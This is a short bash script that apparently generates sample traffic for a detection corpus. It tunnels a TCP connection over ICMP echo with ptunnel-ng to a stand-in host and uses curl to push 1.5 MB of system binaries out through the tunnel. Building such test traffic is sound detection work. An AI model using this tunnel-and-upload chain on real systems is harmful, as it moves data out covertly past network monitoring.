#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=icmp-tunnel half=tune tool=ptunnel-ng,curl far=out seconds=20
# ptunnel-ng carries a TCP connection in echo: 1.5 MB of an archive are put outside through it.
if [ "$1" = out ]; then exec timeout 40 ptunnel-ng; fi
timeout 18 ptunnel-ng -p203.0.113.66 -l8000 -r203.0.113.66 -R80 >/dev/null 2>&1 &
sleep 1
head -c 1500000 /usr/bin/ffmpeg /usr/bin/openssl | curl -s -o /dev/null --max-time 14 -T - "http://127.0.0.1:8000/drop/$$-icmp"
wait; true
